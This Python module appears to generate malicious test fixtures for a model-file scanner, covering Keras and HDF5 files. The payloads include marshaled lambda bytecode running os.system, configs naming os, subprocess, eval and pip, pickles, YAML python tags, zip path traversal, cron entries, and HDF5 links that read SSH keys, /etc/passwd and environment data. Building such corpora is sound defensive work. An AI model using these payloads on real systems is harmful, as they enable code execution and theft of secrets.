"""Keras models: Lambda code, custom objects, modules named in configurations, file and network access, zip and HDF5 tricks."""

import base64
import io
import json
import marshal
import tempfile
import zipfile
from pathlib import Path

import h5py
from assemble import call
from payload import CODE, COMMAND, SECRET, URL
from registry import malicious

BYTECODE = base64.b64encode(marshal.dumps(compile(f"lambda x: __import__('os').system({COMMAND!r}) or x", "<l>", "eval").co_consts[0])).decode()


def layer(class_name: str, config: dict, module: str = "keras.layers", registered=None) -> dict:
    """One layer as Keras 3 writes it."""
    return {"module": module, "class_name": class_name, "config": {"name": class_name.lower(), "trainable": True, **config}, "registered_name": registered, "build_config": {"input_shape": [None, 4]}}


def sequential(*layers: dict) -> dict:
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32"})
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": [first, *layers]}, "registered_name": None}


def weights() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "w.h5")
        with h5py.File(path, "w") as file:
            file.create_group("layers/dense/vars").create_dataset("0", data=[[1.0] * 4] * 4)
        return path.read_bytes()


def keras_zip(config: dict, **more) -> bytes:
    """A .keras file (version 3)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": "3.5.0", "date_saved": "2024-01-01@00:00:00"}))
        file.writestr("config.json", json.dumps(config))
        file.writestr("model.weights.h5", weights())
        for name, data in more.items():
            file.writestr(name, data)
    return out.getvalue()


def keras_h5(config: dict, training=None, change=None) -> bytes:
    """A .h5 model with its configuration in an attribute."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "m.h5")
        with h5py.File(path, "w") as file:
            file.attrs["keras_version"] = "2.15.0"
            file.attrs["backend"] = "tensorflow"
            file.attrs["model_config"] = json.dumps(config)
            if training:
                file.attrs["training_config"] = json.dumps(training)
            group = file.create_group("model_weights/dense")
            group.create_dataset("kernel:0", data=[[1.0] * 4] * 4)
            if change:
                change(file)
        return path.read_bytes()


def legacy(*layers: dict) -> dict:
    """A Sequential as Keras 2 writes it."""
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "i"}}, *layers]}}


LAMBDA_3 = layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": BYTECODE + "\n", "defaults": None, "closure": None}}, "arguments": {}})
LAMBDA_2 = {"class_name": "Lambda", "config": {"name": "lambda", "function": [BYTECODE, None, None], "function_type": "lambda", "module": "__main__", "output_shape": None, "arguments": {}}}
LAMBDA_NAMED = {"class_name": "Lambda", "config": {"name": "lambda", "function": "system", "function_type": "function", "module": "os", "arguments": {}}}


def hostile_layers() -> dict:
    """One layer each (Keras 3), with what loading or the first call of it does."""
    dense = {"units": 4, "activation": "linear"}
    return {
        "lambda": LAMBDA_3,
        "lambda-inline": layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": BYTECODE}}}),
        "lambda-function-os": layer("Lambda", {"function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}),
        "lambda-in-timedistributed": layer("TimeDistributed", {"layer": LAMBDA_3}),
        "lambda-in-bidirectional": layer("Bidirectional", {"layer": LAMBDA_3, "merge_mode": "concat"}),
        "lambda-in-nested-model": sequential(sequential(LAMBDA_3)),
        "lambda-in-wrapper": layer("SpectralNormalization", {"layer": LAMBDA_3}),
        "activation-os-system": layer("Dense", {**dense, "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}),
        "activation-lambda": layer("Dense", {**dense, "activation": {"class_name": "__lambda__", "config": {"code": BYTECODE, "defaults": None, "closure": None}}}),
        "activation-builtins-eval": layer("Dense", {**dense, "activation": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "eval"}}),
        "initializer-subprocess": layer("Dense", {**dense, "kernel_initializer": {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}, "registered_name": None}}),
        "regularizer-unknown-module": layer("Dense", {**dense, "kernel_regularizer": {"module": "evil_pkg.stage", "class_name": "Run", "config": {"cmd": COMMAND}, "registered_name": "Run"}}),
        "constraint-lambda": layer("Dense", {**dense, "kernel_constraint": {"class_name": "__lambda__", "config": {"code": BYTECODE, "defaults": None, "closure": None}}}),
        "class-os-system": layer("system", {"command": COMMAND}, module="os"),
        "class-subprocess": layer("Popen", {"args": ["id"]}, module="subprocess"),
        "class-run-module": layer("run_path", {"path_name": "/tmp/stage.py"}, module="runpy"),
        "class-arbitrary-import": layer("Stage", {}, module="evil_pkg.payload"),
        "class-pip": layer("main", {"args": ["install", URL]}, module="pip"),
        "keras-get-file": layer("get_file", {"fname": "x", "origin": URL, "extract": True}, module="keras.utils"),
        "keras-load-model": layer("load_model", {"filepath": "/tmp/stage.keras", "safe_mode": False}, module="keras.models"),
        "keras-enable-unsafe": layer("enable_unsafe_deserialization", {}, module="keras.config"),
        "keras-src-config-unsafe": {"module": "keras.src.saving.serialization_lib", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": None},
        "keras-src-func-load": layer("func_load", {"code": BYTECODE}, module="keras.src.utils.python_utils"),
        "keras-src-data-utils": layer("get_file", {"origin": URL}, module="keras.src.utils.file_utils"),
        "keras-save-model": layer("save_model", {"model": None, "filepath": "/tmp/pwned-test"}, module="keras.saving"),
        "numpy-load": layer("load", {"file": "/tmp/stage.npy", "allow_pickle": True}, module="numpy"),
        "operation-numpy-fromfile": layer("Dense", {**dense, "kernel_initializer": {"module": "numpy", "class_name": "fromfile", "config": {"file": SECRET}, "registered_name": None}}),
        "stringlookup-file": layer("StringLookup", {"vocabulary": SECRET, "mask_token": None, "oov_token": "[UNK]"}),
        "textvectorization-file": layer("TextVectorization", {"vocabulary": SECRET, "output_mode": "int"}),
        "textvectorization-url": layer("TextVectorization", {"vocabulary": "http://192.0.2.1/v.txt"}),
        "integerlookup-file": layer("IntegerLookup", {"vocabulary": "/proc/self/environ"}),
        "stringlookup-gs": layer("StringLookup", {"vocabulary": "gs://evil-bucket/v.txt"}),
        "textvectorization-lambda": layer("TextVectorization", {"standardize": {"class_name": "__lambda__", "config": {"code": BYTECODE, "defaults": None, "closure": None}}}),
        "tfsmlayer": layer("TFSMLayer", {"filepath": "/tmp/stage_saved_model", "call_endpoint": "serving_default"}, module="keras.src.export.tfsm_layer"),
        "jaxlayer": layer("JaxLayer", {"call_fn": {"class_name": "__lambda__", "config": {"code": BYTECODE}}}),
        "torchmodulewrapper": layer("TorchModuleWrapper", {"module": base64.b64encode(call("os", "system", COMMAND, protocol=2)).decode()}, module="keras.src.utils.torch_utils"),
        "torchmodulewrapper-dict": layer("TorchModuleWrapper", {"module": {"class_name": "__bytes__", "config": {"value": base64.b64encode(call("os", "system", COMMAND, protocol=2)).decode()}}}, module="keras.layers"),
        "flaxlayer": layer("FlaxLayer", {"module": {"module": "os", "class_name": "system", "config": {}}}),
        "custom-registered": layer("Shell", {"cmd": COMMAND}, module="builtins", registered="evil>Shell"),
        "typespec-inline": layer("Dense", {**dense, "kernel_initializer": {"class_name": "__typespec__", "spec_name": "os.system", "module": "os", "config": []}}),
        "numpy-pickle-value": layer("Dense", {**dense, "x": {"class_name": "__numpy__", "config": {"value": base64.b64encode(call("os", "system", COMMAND)).decode(), "dtype": "object"}}}),
        "builtins-exec-class": {"module": "builtins", "class_name": "exec", "config": {"source": CODE}, "registered_name": None},
        "dunder-in-class": layer("__class__.__base__.__subclasses__", {}, module="keras.layers"),
        "dotted-class": layer("os.system", {}, module="keras.src.utils.file_utils"),
    }


@malicious("keras")
def keras_zip_layers():
    """.keras files whose config.json names code: Lambda bytecode, foreign modules, file vocabularies, downloads (CVE-2025-1550, 8747, 9905, 9906, 12058 and kin)."""
    for slug, hostile in hostile_layers().items():
        yield f"{slug}--model.keras", keras_zip(hostile if hostile.get("class_name") == "Sequential" else sequential(hostile))


@malicious("keras")
def keras_h5_layers():
    """.h5 models with Lambda layers or foreign functions; safe_mode is not honoured there before 3.11 (CVE-2025-9905)."""
    cases = {
        "lambda": legacy(LAMBDA_2), "lambda-named": legacy(LAMBDA_NAMED), "lambda-keras3-style": legacy(LAMBDA_3), "functional-lambda": {"class_name": "Functional", "config": {"name": "m", "layers": [LAMBDA_2], "input_layers": [], "output_layers": []}},
        "model-lambda": {"class_name": "Model", "config": {"name": "m", "layers": [LAMBDA_2]}}, "nested": legacy(legacy(LAMBDA_2)), "timedistributed": legacy({"class_name": "TimeDistributed", "config": {"layer": LAMBDA_2}}),
        "activation-lambda": legacy({"class_name": "Dense", "config": {"units": 4, "activation": {"class_name": "__lambda__", "config": {"code": BYTECODE}}}}), "custom-class": legacy({"class_name": "EvilLayer", "config": {"command": COMMAND}}),
        "custom-package": legacy({"class_name": "evil>Shell", "config": {"cmd": COMMAND}}), "stringlookup": legacy({"class_name": "StringLookup", "config": {"vocabulary": SECRET}}), "eval-string": legacy({"class_name": "Dense", "config": {"units": 4, "activation": "eval(\"__import__('os').system('id')\")"}}),
        "keras3-module-os": sequential(layer("system", {"command": COMMAND}, module="os")), "output-shape-lambda": legacy({"class_name": "Lambda", "config": {"function": "relu", "function_type": "function", "module": "keras.activations", "output_shape": [BYTECODE, None, None], "output_shape_type": "lambda"}}),
    }
    for slug, config in cases.items():
        yield f"{slug}--model.h5", keras_h5(config)
    yield "lambda--model.hdf5", keras_h5(legacy(LAMBDA_2))
    yield "lambda-renamed--model.keras", keras_h5(legacy(LAMBDA_2))
    yield "lambda-renamed-bin--weights.bin", keras_h5(legacy(LAMBDA_2))
    dense = legacy({"class_name": "Dense", "config": {"units": 4}})
    yield "custom-loss--model.h5", keras_h5(dense, {"loss": {"class_name": "__lambda__", "config": {"code": BYTECODE}}, "optimizer_config": {"class_name": "Adam", "config": {}}})
    yield "metric-module--model.h5", keras_h5(dense, {"loss": "mse", "metrics": [{"module": "os", "class_name": "system", "config": {}, "registered_name": None}]})


@malicious("keras")
def json_and_yaml_configs():
    """Architecture files: JSON for model_from_json, YAML for model_from_yaml (CVE-2021-37678: yaml.load)."""
    for slug in ("lambda", "activation-os-system", "class-subprocess", "stringlookup-file", "keras-get-file", "class-arbitrary-import"):
        yield f"json-{slug}--model.json", json.dumps(sequential(hostile_layers()[slug])).encode()
    yield "json-legacy-lambda--architecture.json", json.dumps({**legacy(LAMBDA_2), "keras_version": "2.4.0", "backend": "tensorflow"}).encode()
    yield "yaml-python-object--model.yaml", f"backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config: !!python/object/apply:os.system ['{COMMAND}']\nkeras_version: 2.4.0\n".encode()
    yield "yaml-python-name--model.yaml", b"class_name: Sequential\nkeras_version: 2.4.0\nconfig: !!python/name:subprocess.Popen\n"
    yield "yaml-python-module--model.yaml", b"class_name: Sequential\nkeras_version: 2.4.0\nconfig: !!python/module:evil_stage\n"
    yield "yaml-object-new--model.yaml", b"class_name: Sequential\nkeras_version: 2.4.0\nconfig: !!python/object/new:type\n  args: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\n  listitems: \"__import__('os').system('id')\"\n"
    yield "yaml-lambda--model.yaml", f"backend: tensorflow\nclass_name: Sequential\nconfig:\n  name: s\n  layers:\n  - class_name: Lambda\n    config:\n      function: !!python/tuple\n      - '{BYTECODE}'\n      - null\n      - null\n      function_type: lambda\n      module: __main__\nkeras_version: 2.4.0\n".encode()
    yield "yaml-plain-lambda--model.yml", f"class_name: Sequential\nbackend: tensorflow\nkeras_version: 2.4.0\nconfig:\n- class_name: Lambda\n  config:\n    function: ['{BYTECODE}', null, null]\n    function_type: lambda\n".encode()


@malicious("keras")
def keras_zip_tricks():
    """Members that should not be there, configurations elsewhere, traversal in asset names, weights that link outside."""
    clean = sequential(layer("Dense", {"units": 4}))
    yield "pickle-member--model.keras", keras_zip(clean, **{"assets/state.pkl": call("os", "system", COMMAND)})
    yield "python-member--model.keras", keras_zip(clean, **{"assets/layer.py": CODE})
    yield "executable-member--model.keras", keras_zip(clean, **{"assets/run.so": b"\x7fELF\x02\x01\x01" + bytes(300)})
    yield "traversal-asset--model.keras", keras_zip(clean, **{"assets/../../../../tmp/pwned-test": b"x"})
    yield "absolute-asset--model.keras", keras_zip(clean, **{"/etc/cron.d/x": b"* * * * * root id"})
    yield "duplicate-config--model.keras", _duplicate_config(clean)
    yield "renamed-zip--model.zip", keras_zip(sequential(LAMBDA_3))
    yield "renamed-h5--model.h5", keras_zip(sequential(LAMBDA_3))
    yield "config-utf16--model.keras", _with_config(json.dumps(sequential(LAMBDA_3)).encode("utf-16"))
    yield "config-bom--model.keras", _with_config(b"\xef\xbb\xbf" + json.dumps(sequential(LAMBDA_3)).encode())
    yield "config-escaped--model.keras", _with_config(json.dumps(sequential(LAMBDA_3)).replace("Lambda", "\\u004cambda").replace("__lambda__", "\\u005f_lambda__").encode())
    yield "config-duplicate-keys--model.keras", _with_config(json.dumps(sequential(LAMBDA_3)).replace('"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"').encode())
    yield "npz-weights-pickle--model.keras", _with_config(json.dumps(clean).encode(), {"model.weights.npz": call("os", "system", COMMAND)})
    yield "external-link-weights--model.keras", _with_config(json.dumps(clean).encode(), {"model.weights.h5": _h5_external()})
    yield "external-storage-weights--model.keras", _with_config(json.dumps(clean).encode(), {"model.weights.h5": _h5_external_storage()})


def _with_config(config: bytes, weights_members=None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
        file.writestr("config.json", config)
        for name, data in (weights_members or {"model.weights.h5": weights()}).items():
            file.writestr(name, data)
    return out.getvalue()


def _duplicate_config(clean: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("metadata.json", "{}")
        file.writestr("config.json", json.dumps(clean))
        file.writestr("config.json", json.dumps(sequential(LAMBDA_3)))
    return out.getvalue()


def _h5_file(fill) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "m.h5")
        with h5py.File(path, "w") as file:
            fill(file)
        return path.read_bytes()


def _h5_external() -> bytes:
    def fill(file):
        file["layers"] = h5py.ExternalLink("/etc/secret.h5", "/weights")

    return _h5_file(fill)


def _h5_external_storage() -> bytes:
    def fill(file):
        group = file.create_group("layers/dense/vars")
        group.create_dataset("0", shape=(100,), dtype="u1", external=[(SECRET, 0, 100)])

    return _h5_file(fill)


@malicious("hdf5")
def hdf5_structures():
    """HDF5 files with external links or raw storage elsewhere, pickles in attributes or datasets, payloads, code strings."""
    yield "external-link--data.h5", _h5_external()
    yield "external-storage--weights.h5", _h5_external_storage()
    yield "external-storage-root--weights.hdf5", _h5_file(lambda f: f.create_dataset("kernel", shape=(10,), dtype="u1", external=[("/root/.ssh/id_rsa", 0, 10)]))
    yield "external-storage-relative--weights.h5", _h5_file(lambda f: f.create_dataset("kernel", shape=(10,), dtype="u1", external=[("../../../../etc/passwd", 0, 10)]))
    import numpy as np

    evil = call("os", "system", COMMAND)
    yield "pickle-attribute--weights.h5", _h5_file(lambda f: f.attrs.__setitem__("state", np.void(evil)))
    yield "pickle-dataset--weights.h5", _h5_file(lambda f: f.create_dataset("state", data=np.frombuffer(evil, dtype="u1")))
    yield "pickle-dataset-void--weights.h5", _h5_file(lambda f: f.create_dataset("state", data=np.void(evil)))
    yield "pickle-pytables--frame.h5", _h5_file(lambda f: f.create_dataset("values", data=np.void(evil)).attrs.__setitem__("PSEUDOATOM", b"object"))
    yield "pytables-attribute--frame.h5", _h5_file(lambda f: (f.attrs.__setitem__("PYTABLES_FORMAT_VERSION", b"2.1"), f.attrs.__setitem__("FILTERS", np.bytes_(call("os", "system", COMMAND, protocol=0)))))
    yield "elf-dataset--weights.h5", _h5_file(lambda f: f.create_dataset("kernel", data=np.frombuffer(b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(500), dtype="u1")))
    yield "truncated--weights.h5", _h5_file(lambda f: f.create_dataset("x", data=np.zeros(1000)))[:600]
    yield "userblock-script--weights.h5", b"#!/bin/sh\nid\nexit 0\n".ljust(512, b"\0") + _h5_file(lambda f: f.create_dataset("x", data=[1.0]))
